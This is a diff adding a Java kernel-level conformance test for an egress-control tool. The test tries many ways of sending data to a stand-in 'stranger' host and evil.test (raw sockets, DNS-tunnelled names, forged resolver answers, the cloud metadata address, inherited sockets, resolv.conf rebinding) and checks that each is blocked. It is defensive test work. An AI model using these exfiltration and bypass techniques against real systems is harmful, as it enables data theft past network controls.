@@ -1,0 +1,443 @@
+package eyas.conformance;
+
+import static eyas.conformance.EgressNetwork.STRANGER;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import eyas.conformance.EgressNetwork.Run;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+/** Sends data to strangers in every way that the kernel has, with and without egress control, and looks what arrives. */
+@Tag("kernel")
+final class EgressKernelTest {
+    /** Each ends at a stranger where nobody stands in the way. */
+    private static final List<String> WAYS = List.of(
+            "tcp " + STRANGER + " 443",
+            "tcp fd77::66 443",
+            "tcp ::ffff:" + STRANGER + " 443",
+            "udp " + STRANGER + " 443",
+            "udp ::ffff:" + STRANGER + " 443",
+            "udp fd77::66 443",
+            "udp-connected " + STRANGER + " 443",
+            "sendmmsg " + STRANGER + " 443",
+            "fast-open " + STRANGER + " 443",
+            "raw " + STRANGER + " 0",
+            "header " + STRANGER + " 443",
+            "fragment " + STRANGER + " 443",
+            "ping " + STRANGER + " 0",
+            "uring-connect " + STRANGER + " 443",
+            "uring-send " + STRANGER + " 443",
+            "get evil.test 443",
+            "ask " + STRANGER + " 53 www.allowed.test");
+
+    private static final List<String> STRANGERS = List.of(STRANGER, "fd77::66");
+    private static final List<String> BLOCK =
+            List.of("--egress", "block", "--allow", "*.allowed.test one.test:443 listed.test any.test:*");
+
+    @TempDir
+    private static Path folder;
+
+    private static EgressNetwork network;
+
+    @BeforeAll
+    static void buildTheNetwork() throws Exception {
+        Privileges.need();
+        // Commands that are not root run the client, too.
+        Files.setPosixFilePermissions(folder, PosixFilePermissions.fromString("rwxr-xr-x"));
+        network = EgressNetwork.build(folder);
+    }
+
+    private static String[] attempts(String... more) {
+        return Stream.concat(WAYS.stream(), Arrays.stream(more)).toArray(String[]::new);
+    }
+
+    private static Run blocked(String... attempts) throws IOException, InterruptedException {
+        return network.watch(BLOCK, network.client(attempts));
+    }
+
+    private static List<JsonNode> alerts(Path report) throws IOException {
+        List<JsonNode> alerts = new ArrayList<>();
+        for (String line : Files.readAllLines(report.resolve("alerts.jsonl"))) {
+            JsonNode alert = JsonMapper.shared().readTree(line);
+            if (alert.get("rule").asString().startsWith("Egress ")) {
+                alerts.add(alert.get("output_fields"));
+            }
+        }
+        return alerts;
+    }
+
+    @Test
+    void withoutControlEveryWayLeadsOut() throws Exception {
+        for (String way : WAYS) {
+            Run run = network.run(network.client(way));
+
+            assertThat(run.results().values()).as(way + run.process()).containsExactly("ok");
+            assertThat(run.arrived()).as(way).anyMatch(packet -> STRANGERS.contains(packet.split(" ", -1)[1]));
+        }
+    }
+
+    @Test
+    void nothingArrivesAtStrangersInAnyWay() throws Exception {
+        Path report = folder.resolve("report");
+        List<String> options = new ArrayList<>(BLOCK);
+        options.addAll(List.of("--report", report.toString(), "--fail-on", "error"));
+
+        Run run = network.watch(options, network.client(attempts()));
+
+        assertThat(run.results()).as(run.process().err()).hasSize(WAYS.size());
+        assertThat(run.results()).containsEntry("get", "ENOENT");
+        run.results().remove("get");
+        assertThat(run.results().values()).containsOnly("EPERM");
+        for (String stranger : STRANGERS) {
+            assertThat(run.arrivedAt(stranger)).as(stranger).isEmpty();
+        }
+        List<JsonNode> alerts = alerts(report);
+        assertThat(alerts).allMatch(fields -> fields.get("proc.name").asString().equals("client"));
+        assertThat(alerts)
+                .anyMatch(fields -> fields.get("egress.name").asString("").equals("evil.test"));
+        assertThat(alerts.stream().map(fields -> fields.get("egress.protocol").asString()))
+                .contains("tcp", "udp", "icmp", "253");
+        assertThat(alerts.stream().map(fields -> fields.get("egress.reason").asString()))
+                .contains("destination", "name", "resolver");
+        JsonNode written = JsonMapper.shared().readTree(Files.readAllBytes(report.resolve("report.json")));
+        assertThat(written.toString()).contains("Egress Denied");
+    }
+
+    @Test
+    void whatIsAllowedGoesOnAsBefore() throws Exception {
+        Run run = blocked(
+                "get www.allowed.test 443",
+                "get WWW.Allowed.TEST 443",
+                "get alias.allowed.test 443",
+                "get six.allowed.test 443",
+                "get short.allowed.test 443",
+                "get one.test 443",
+                "get any.test 8443",
+                "get listed.test 443",
+                "tcp 10.77.0.11 443",
+                "tcp 127.0.0.1 9",
+                "udp 10.77.0.1 9",
+                "udp 10.77.0.10 443",
+                "ask-stream 10.77.0.53 53 many.allowed.test",
+                "udp 10.77.1.40 443",
+                "fast-open 10.77.0.10 443",
+                "uring-connect 10.77.0.10 443");
+
+        assertThat(run.results().remove("tcp2")).isEqualTo("ECONNREFUSED");
+        assertThat(run.results().values())
+                .as(run.results() + run.process().err())
+                .containsOnly("ok");
+        assertThat(run.process().err()).doesNotContain("Egress Denied");
+    }
+
+    @Test
+    void aNameIsGoodForItsPortsOnly() throws Exception {
+        Run run = blocked("get one.test 443", "get one.test 80", "get one.test 22", "udp 10.77.0.10 80");
+
+        assertThat(run.results().values()).containsExactly("ok", "EPERM", "EPERM", "EPERM");
+    }
+
+    @Test
+    void namesCarryNothingToTheResolver() throws Exception {
+        Run run = blocked(
+                "ask 10.77.0.53 53 c2VjcmV0.evil.test",
+                "ask 10.77.0.53 53 allowed.test",
+                "ask 10.77.0.53 53 www.allowed.test.evil.test",
+                "ask 10.77.0.53 53 notallowed.test",
+                "udp 10.77.0.53 53",
+                "ask-stream 10.77.0.53 53 secret.evil.test",
+                "ask-pieces 10.77.0.53 53 secret.evil.test");
+
+        assertThat(run.results().values())
+                .containsExactly("EPERM", "EPERM", "EPERM", "EPERM", "EPERM", "ETIMEDOUT", "ETIMEDOUT");
+        assertThat(run.arrivedAt("10.77.0.53"))
+                .allMatch(packet -> packet.startsWith("tcp 10.77.0.53 53 ") && length(packet) <= 40);
+        assertThat(run.process().err()).contains("name=c2vjcmv0.evil.test").contains("reason=question");
+    }
+
+    /** More than the one question that is read: options before it, a second one in the same call, something behind it. */
+    @Test
+    void whatIsHiddenBesideAQuestionDoesNotLeave() throws Exception {
+        Run run = blocked(
+                "ask-options 10.77.0.53 53 www.allowed.test",
+                "ask-options 10.77.0.53 53 secret.evil.test",
+                "ask-segments 10.77.0.53 53 www.allowed.test secret.evil.test",
+                "ask-trailing 10.77.0.53 53 www.allowed.test",
+                "ask-extended 10.77.0.53 53 www.allowed.test",
+                "ask 10.77.0.53 53 www.allowed.test");
+
+        assertThat(run.results().values())
+                .as(run.process().err())
+                .containsExactly("ok", "EPERM", "EPERM", "EPERM", "ok", "ok");
+        assertThat(run.arrivedAt("10.77.0.53")).hasSize(3);
+    }
+
+    /** A name server on the machine asks others, as systemd-resolved does at 127.0.0.54 beside its usual address. */
+    @Test
+    void nameServersOnTheMachineThatAreNotConfiguredAreAskedNothing() throws Exception {
+        List<String> ways = List.of(
+                "ask 127.0.0.54 53 secret.evil.test",
+                "ask-options 127.0.0.1 53 secret.evil.test",
+                "ask 10.77.0.1 53 secret.evil.test",
+                "udp ::1 53",
+                "ask-stream 127.0.0.54 53 secret.evil.test");
+
+        Run run = blocked(ways.toArray(new String[0]));
+
+        assertThat(run.results().values())
+                .as(run.process().err())
+                .containsExactly("EPERM", "EPERM", "EPERM", "EPERM", "EINPROGRESS");
+        assertThat(run.process().err()).contains("reason=resolver");
+        // Without control there is nobody who answers, so that it leaves and nothing comes.
+        assertThat(network.run(network.client(ways.get(0))).results().values()).containsExactly("ETIMEDOUT");
+        Run named = network.watch(
+                List.of("--egress", "block", "--allow", "127.0.0.54:53"),
+                network.client("ask 127.0.0.54 53 secret.evil.test"));
+        assertThat(named.results().values()).containsExactly("ETIMEDOUT");
+    }
+
+    /** Most jobs are no root; what they may not do anyway is left out. */
+    @Test
+    void aCommandThatIsNotRootSendsNothingEither() throws Exception {
+        List<String> ways = WAYS.stream()
+                .filter(way -> !way.startsWith("raw ") && !way.startsWith("header ") && !way.startsWith("fragment "))
+                .toList();
+        List<String> command =
+                new ArrayList<>(List.of("setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"));
+        command.addAll(network.client(ways.toArray(new String[0])));
+
+        Run free = network.run(command);
+        assertThat(free.results().values()).as(free.process().err()).containsOnly("ok");
+
+        Run run = network.watch(BLOCK, command);
+
+        assertThat(run.results()).as(run.process().err()).hasSize(ways.size()).containsEntry("get", "ENOENT");
+        run.results().remove("get");
+        assertThat(run.results().values()).containsOnly("EPERM");
+        for (String stranger : STRANGERS) {
+            assertThat(run.arrivedAt(stranger)).as(stranger).isEmpty();
+        }
+    }
+
+    @Test
+    void aNetworkNamespaceOfTheCommandsOwnIsHeldToTheSameListWithoutFalseAlerts() throws Exception {
+        String script = "ip link set lo up; ip link add one type veth peer name two; ip link set one up;"
+                + " ip link set two up; sleep 2; exec \"$0\" \"$@\"";
+        List<String> command = new ArrayList<>(List.of("unshare", "--net", "sh", "-c", script));
+        command.addAll(network.client("udp 127.0.0.1 9"));
+
+        Run quiet = network.watch(BLOCK, command);
+        assertThat(quiet.results().values()).as(quiet.process().err()).containsExactly("ok");
+        assertThat(quiet.process().err()).doesNotContain("Egress Denied");
+
+        List<String> sending = new ArrayList<>(List.of("unshare", "--net"));
+        sending.addAll(network.client("tcp " + STRANGER + " 443", "udp " + STRANGER + " 443"));
+        assertThat(network.watch(BLOCK, sending).results().values()).containsOnly("EPERM");
+    }
+
+    /** Docker lets everybody listen on every port of a container. */
+    @Test
+    void aResolverThatTheCommandCouldBeIsNotBelieved() throws Exception {
+        List<String> command = new ArrayList<>(
+                List.of(
+                        "sh",
+                        "-c",
+                        "echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start; umount /etc/resolv.conf; cd " + folder
+                                + "; echo nameserver 127.0.0.11 > inside; mount --bind inside /etc/resolv.conf; exec \"$0\" \"$@\""));
+        command.addAll(EyasProcess.builder("watch", "--egress", "block", "--", "echo", "ran")
+                .command());
+
+        Run run = network.run(command);
+
+        assertThat(run.process().exitCode()).as(run.process().err()).isEqualTo(125);
+        assertThat(run.process().out()).doesNotContain("ran");
+        assertThat(run.process().err()).contains("ip_unprivileged_port_start is 0");
+    }
+
+    private static int length(String packet) {
+        return Integer.parseInt(packet.split(" ", -1)[3]);
+    }
+
+    @Test
+    void nobodyButTheResolverWidensTheList() throws Exception {
+        Run run = blocked(
+                // a name server with the resolver's address, in a network namespace that the job has made
+                "forge 10.77.0.53 53 www.allowed.test " + STRANGER,
+                "tcp " + STRANGER + " 443",
+                // an allowed name that leads to what gives secrets out
+                "get secrets.allowed.test 443",
+                "tcp 169.254.169.254 80");
+
+        // The forged answer is read by a process that takes no notice of us; the list is not.
+        assertThat(run.results())
+                .containsEntry("tcp", "EPERM")
+                .containsEntry("get", "EPERM")
+                .containsEntry("tcp2", "EPERM");
+        assertThat(run.arrivedAt(STRANGER)).isEmpty();
+        assertThat(run.arrivedAt("169.254.169.254")).isEmpty();
+        assertThat(run.process().err()).contains("reason=metadata");
+    }
+
+    /** Whatever is in an answer, the kernel's reader neither breaks nor takes what was not asked for. */
+    @Test
+    void spoiledAnswersChangeNothingElse() throws Exception {
+        Run run = blocked(
+                "storm 10.77.0.53 53 20000 short.allowed.test", "get www.allowed.test 443", "tcp " + STRANGER + " 443");
+
+        assertThat(run.results())
+                .as(run.process().err())
+                .containsEntry("storm", "ok")
+                .containsEntry("get", "ok");
+        assertThat(run.results()).containsEntry("tcp", "EPERM");
+    }
+
+    @Test
+    void anotherResolvConfChangesNothing() throws Exception {
+        String script = "umount /etc/resolv.conf; printf 'nameserver " + STRANGER
+                + "\\n' > new; mount --bind new /etc/resolv.conf; exec \"$0\" \"$@\"";
+        List<String> command = new ArrayList<>(List.of("sh", "-c", "cd " + folder + "; " + script));
+        command.addAll(network.client("get www.allowed.test 443", "ask 10.77.0.53 53 www.allowed.test"));
+
+        Run run = network.watch(BLOCK, command);
+
+        assertThat(run.results()).containsEntry("ask", "ok").containsEntry("get", "ENOENT");
+        assertThat(run.arrivedAt(STRANGER)).isEmpty();
+    }
+
+    @Test
+    void aGroupBelowAndANamespaceOfItsOwnAreHeldToTheSameList() throws Exception {
+        String below =
+                "for tree in /sys/fs/cgroup/unified /sys/fs/cgroup; do g=$tree$(sed -n 's/^0:://p' /proc/self/cgroup)/below;"
+                        + " mkdir $g 2>/dev/null && break; done; echo $$ > $g/cgroup.procs && \"$0\" \"$@\";"
+                        + " echo $$ > $g/../cgroup.procs; rmdir $g";
+        List<String> command = new ArrayList<>(List.of("sh", "-c", below));
+        command.addAll(network.client("tcp " + STRANGER + " 443", "get www.allowed.test 443"));
+
+        Run run = network.watch(BLOCK, command);
+
+        assertThat(run.results())
+                .as(run.process().err())
+                .containsEntry("tcp", "EPERM")
+                .containsEntry("get", "ok");
+    }
+
+    /** A limit: a socket belongs to the group that it was made in. docs/egress.md says so. */
+    @Test
+    void aSocketThatWasHandedDownIsNotTheCommandsOwn() throws Exception {
+        List<String> command =
+                new ArrayList<>(List.of("bash", "-c", "exec 9<>/dev/udp/" + STRANGER + "/443; exec \"$0\" \"$@\""));
+        List<String> arguments = new ArrayList<>(List.of("watch"));
+        arguments.addAll(BLOCK);
+        arguments.add("--");
+        arguments.addAll(network.client("write 9", "splice 9", "udp " + STRANGER + " 443"));
+        command.addAll(EyasProcess.builder(arguments.toArray(new String[0])).command());
+
+        Run run = network.run(command);
+
+        assertThat(run.results().values()).as(run.process().err()).containsExactly("ok", "ok", "EPERM");
+        assertThat(run.arrivedAt(STRANGER)).hasSize(2);
+    }
+
+    /** A limit: frames go past IP, and only root may send them. docs/egress.md says so. */
+    @Test
+    void aPacketSocketGoesPastIt() throws Exception {
+        Run run = blocked("frame " + STRANGER + " 443 here");
+
+        assertThat(run.results().values()).containsExactly("ok");
+    }
+
+    @Test
+    void aSocketOfTheCommandsOwnThatIsConnectedAlreadyIsJudgedAsPackets() throws Exception {
+        List<String> command =
+                new ArrayList<>(List.of("bash", "-c", "exec 9<>/dev/udp/10.77.0.1/443; exec \"$0\" \"$@\""));
+        command.addAll(network.client("splice 9", "write 9"));
+
+        Run run = network.watch(BLOCK, command);
+
+        assertThat(run.results()).as(run.process().err()).containsEntry("splice", "ok");
+    }
+
+    @Test
+    void reportingLetsThroughAndTells() throws Exception {
+        Path report = folder.resolve("reported");
+
+        Run run = network.watch(
+                List.of("--egress", "report", "--allow", "*.allowed.test", "--report", report.toString()),
+                network.client("tcp " + STRANGER + " 443", "get evil.test 443", "get www.allowed.test 443"));
+
+        assertThat(run.results().values()).as(run.process().err()).containsOnly("ok");
+        assertThat(run.arrivedAt(STRANGER)).isNotEmpty();
+        assertThat(alerts(report))
+                .isNotEmpty()
+                .allMatch(fields -> !fields.get("egress.address").asString().equals("10.77.0.10"));
+        assertThat(run.process().err()).contains("Egress Not on the List").doesNotContain("Egress Denied");
+    }
+
+    @Test
+    void aWatchThatIsKilledLeavesTheGroupDenying() throws Exception {
+        List<String> command = new ArrayList<>(List.of(
+                "sh", "-c", "kill -9 $PPID; sleep 1; \"$0\" \"$@\"; echo done > '" + folder.resolve("after") + "'"));
+        command.addAll(network.client("tcp " + STRANGER + " 443", "get www.allowed.test 443"));
+        List<String> arguments = new ArrayList<>(List.of("watch"));
+        arguments.addAll(BLOCK);
+        arguments.add("--");
+        arguments.addAll(command);
+        List<String> shell = new ArrayList<>(List.of(
+                "sh", "-c", "\"$0\" \"$@\"; while [ ! -e '" + folder.resolve("after") + "' ]; do sleep 0.1; done"));
+        shell.addAll(EyasProcess.builder(arguments.toArray(new String[0])).command());
+
+        Run run = network.run(shell);
+
+        assertThat(run.results())
+                .as(run.process().err())
+                .containsEntry("tcp", "EPERM")
+                .containsEntry("get", "ok");
+        assertThat(run.arrivedAt(STRANGER)).isEmpty();
+    }
+
+    @Test
+    void whatTheCommandLeavesStaysHeld() throws Exception {
+        Path after = folder.resolve("left");
+        List<String> command =
+                new ArrayList<>(List.of("sh", "-c", "(sleep 2; \"$0\" \"$@\"; echo done > '" + after + "') & exit 0"));
+        command.addAll(network.client("tcp " + STRANGER + " 443"));
+        List<String> arguments = new ArrayList<>(List.of("watch"));
+        arguments.addAll(BLOCK);
+        arguments.add("--");
+        arguments.addAll(command);
+        List<String> shell = new ArrayList<>(
+                List.of("sh", "-c", "\"$0\" \"$@\"; while [ ! -e '" + after + "' ]; do sleep 0.1; done"));
+        shell.addAll(EyasProcess.builder(arguments.toArray(new String[0])).command());
+
+        Run run = network.run(shell);
+
+        assertThat(run.process().err()).contains("they may talk to no more than it might");
+        assertThat(run.results()).containsEntry("tcp", "EPERM");
+        assertThat(run.arrivedAt(STRANGER)).isEmpty();
+    }
+
+    @Test
+    void whereNothingCanBeHeldTheCommandDoesNotRun() throws Exception {
+        List<String> command = new ArrayList<>(List.of("unshare", "--cgroup"));
+        command.addAll(EyasProcess.builder("watch", "--egress", "block", "--", "echo", "ran")
+                .command());
+
+        Run run = network.run(command);
+
+        assertThat(run.process().exitCode()).isEqualTo(125);
+        assertThat(run.process().out()).doesNotContain("ran");
+        assertThat(run.process().err()).contains("egress cannot be controlled");
+    }
+}
